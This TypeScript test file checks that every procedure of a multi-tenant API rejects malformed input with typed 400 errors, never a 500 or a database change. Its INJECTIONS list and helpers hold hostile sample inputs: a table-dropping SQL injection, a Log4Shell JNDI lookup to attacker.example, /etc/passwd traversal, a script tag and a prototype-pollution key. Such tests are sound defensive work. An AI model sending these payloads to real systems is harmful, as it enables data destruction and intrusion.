import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestControlPlane, type TestControlPlane } from '../testing/test-control-plane';
import type { ApiClient } from '../testing/api-client';
import { inputFields, validSampleInput } from '../testing/sample-inputs';
import { ROLES } from '@rc/contracts';
import { membersOf, roleHolding } from '../testing/callers';
import { listProcedures, type ProcedureInfo } from './procedures';

/**
 * Invariant 6 over the whole API: malformed input to any procedure (enumerated from the
 * router) gets a typed 400 with field errors, never a 500, and changes no row.
 */
let cp: TestControlPlane;
let acme: ReturnType<typeof membersOf>;

/**
 * A member of acme whose role may call the procedure, so the input (not the permission)
 * is what gets judged. Public and user-scoped procedures use the tenant admin.
 */
function callerFor(procedure: ProcedureInfo): Promise<ApiClient> {
  return acme.session(roleHolding(procedure.meta?.permission)!);
}

const TABLES = ['tenants', 'users', 'memberships', 'api_tokens', 'modules', 'audit_events'];
const INJECTIONS = [
  "'; drop table modules; --",
  '" or 1=1 --',
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  '{"$gt": ""}',
  'null\u0000byte',
];

async function snapshot(): Promise<string> {
  const parts: unknown[] = [];
  for (const table of TABLES) parts.push(await cp.ownerQuery(`select * from ${table} order by 1`));
  return JSON.stringify(parts);
}

/** Inputs no schema should accept, derived from the procedure's own schema. */
function malformedInputs(
  valid: Record<string, unknown> | undefined,
  fields: Array<[string, { type?: unknown; format?: string; maxLength?: number }]>,
  isQuery: boolean,
) {
  const cases: Array<[string, unknown]> = [
    ['a string instead of an object', 'not an object'],
    ['a number instead of an object', 42],
    ['an array instead of an object', [1, 2, 3]],
  ];
  if (valid && typeof valid === 'object') {
    cases.push(['an unknown key', { ...valid, unexpectedKey: 'x' }]);
    cases.push([
      'a prototype-pollution key',
      JSON.parse(`{"__proto__": {"admin": true}, ${JSON.stringify(valid).slice(1)}`),
    ]);
    for (const [field, schema] of fields) {
      const isString = schema.type === 'string';
      cases.push([
        `${field} of the wrong type`,
        { ...valid, [field]: isString ? 12345 : 'not-the-right-type' },
      ]);
      cases.push([`${field} as an object`, { ...valid, [field]: { nested: true } }]);
      if (isString && schema.format !== 'uuid') {
        cases.push([
          `${field} one character too long`,
          { ...valid, [field]: 'x'.repeat((schema.maxLength ?? 10_000) + 1) },
        ]);
        // Query inputs travel in the URL, which the HTTP server bounds on its own (431).
        if (!isQuery) cases.push([`${field} of 100 kB`, { ...valid, [field]: 'x'.repeat(100_000) }]);
      }
      const { [field]: _omitted, ...missing } = valid;
      cases.push([`${field} missing`, missing]);
    }
  }
  return cases;
}

beforeAll(async () => {
  cp = await startTestControlPlane({ withWorker: true });
  acme = membersOf(cp, cp.acme);
  // Signed in before any snapshot is taken: signing in is audited, and the walk must change nothing.
  for (const role of ROLES) await acme.session(role);
}, 120_000);

afterAll(async () => {
  await cp?.stop();
});

describe('bad input to every procedure', () => {
  it('every string field of every input is bounded', () => {
    const unbounded: string[] = [];
    for (const procedure of listProcedures()) {
      if (!procedure.input) continue;
      for (const [field, schema] of inputFields(procedure.input)) {
        if (
          schema.type === 'string' &&
          schema.maxLength === undefined &&
          schema.format !== 'uuid' &&
          !schema.enum
        ) {
          unbounded.push(`${procedure.path}.${field}`);
        }
      }
    }
    expect(unbounded).toEqual([]);
  });

  it('wrong types, missing fields, oversized strings and unknown keys get 400 ERR_VALIDATION with field errors, and change nothing', async () => {
    const before = await snapshot();
    const failures: string[] = [];
    for (const procedure of listProcedures()) {
      if (!procedure.input || procedure.path === 'auth.logout') continue;
      const valid = validSampleInput(procedure.input) as Record<string, unknown>;
      for (const [label, input] of malformedInputs(
        valid,
        inputFields(procedure.input),
        procedure.type === 'query',
      )) {
        // A case that happens to still be valid (an optional field missing) is not malformed.
        if (procedure.input.safeParse(input).success) continue;
        const response = await (await callerFor(procedure)).call(procedure.path, input);
        if (response.status !== 400 || response.error?.data.code !== 'ERR_VALIDATION') {
          failures.push(`${procedure.path} with ${label} → ${response.status} ${response.error?.data.code}`);
        } else if (!response.error.data.fieldErrors) {
          failures.push(`${procedure.path} with ${label} → 400 without field errors`);
        }
      }
    }
    expect(failures).toEqual([]);
    expect(await snapshot()).toBe(before);
  });

  it('an unparsable body and an unknown procedure are typed errors, not 500s', async () => {
    // Signed in, so the body (not the missing session) is what gets refused.
    const admin = await acme.session('tenant_admin');
    const cookie = (admin as unknown as { cookie: string }).cookie;
    expect(cookie).toMatch(/^rc_session=./);
    const before = await snapshot();
    const garbage = await fetch(`${cp.url}/trpc/modules.create`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-tenant': 'acme', cookie },
      body: '{"name": ',
    });
    expect(garbage.status).toBe(400);
    expect(((await garbage.json()) as { error: { data: { code: string } } }).error.data.code).toBe(
      'ERR_VALIDATION',
    );
    expect(await snapshot()).toBe(before);
    // The session itself is good, so the refusal above was the body's.
    expect((await admin.call('modules.list')).status).toBe(200);
    const unknown = await fetch(`${cp.url}/trpc/nope.nothing`);
    expect(unknown.status).toBe(404);
  });

  it('injection-looking strings are either refused as invalid or stored verbatim, never executed, never a 500', async () => {
    const failures: string[] = [];
    for (const procedure of listProcedures()) {
      if (!procedure.input || procedure.path === 'auth.logout') continue;
      const valid = validSampleInput(procedure.input) as Record<string, unknown>;
      for (const [field, schema] of inputFields(procedure.input)) {
        if (schema.type !== 'string' || schema.format === 'uuid') continue;
        for (const injection of INJECTIONS) {
          const response = await (
            await callerFor(procedure)
          ).call(procedure.path, { ...valid, [field]: injection });
          if (response.status >= 500)
            failures.push(`${procedure.path}.${field}=${JSON.stringify(injection)} → ${response.status}`);
        }
      }
    }
    expect(failures).toEqual([]);
    // The tables are all still there, and nothing leaked into another tenant.
    for (const table of TABLES) await cp.ownerQuery(`select 1 from ${table} limit 1`);
    const globexRows = await cp.ownerQuery('select count(*)::int as n from modules where tenant_id = $1', [
      cp.globex.tenantId,
    ]);
    expect(globexRows[0]).toEqual({ n: 2 });
  });
});
